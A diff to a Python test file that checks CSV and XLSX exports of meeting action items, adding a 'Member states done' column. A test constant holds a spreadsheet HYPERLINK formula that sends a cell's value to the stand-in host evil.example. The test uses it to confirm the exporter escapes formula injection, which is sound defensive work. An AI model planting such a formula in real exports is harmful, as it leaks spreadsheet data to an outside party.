@@ -26,6 +26,7 @@ HEADERS_EN = [
     "Status",
     "Overdue",
     "Last note",
+    "Member states done",
 ]
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'
 
@@ -96,9 +97,11 @@ def test_csv(iom_analyst, meetings):
         "In progress",
         "yes",
         "'-Última nota, con guion",
+        "",  # IOM's alone: no shares
     ]
     states = next(row for row in table if row[2] == "2.a")
     assert states[4] == "the member states" and states[5] == "TS"
+    assert states[11] == "0 of 11"  # followed per member state
     assert states[7] == "en un plazo no mayor a dos meses" and states[9] == "no"
     formula = next(row for row in table if "HYPERLINK" in row[3])
     assert formula[3] == "'" + FORMULA
@@ -131,7 +134,7 @@ def test_xlsx(iom_analyst, meetings):
     assert [cell.value for cell in sheet[1]] == HEADERS_EN
     assert all(cell.font.bold for cell in sheet[1])
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == "A1:K8"
+    assert sheet.auto_filter.ref == "A1:L8"
     assert sheet.column_dimensions["D"].width >= 40
     assert sheet.max_row == 8
     row = next(r for r in sheet.iter_rows(min_row=2) if str(r[3].value).startswith("Analizar los nudos"))
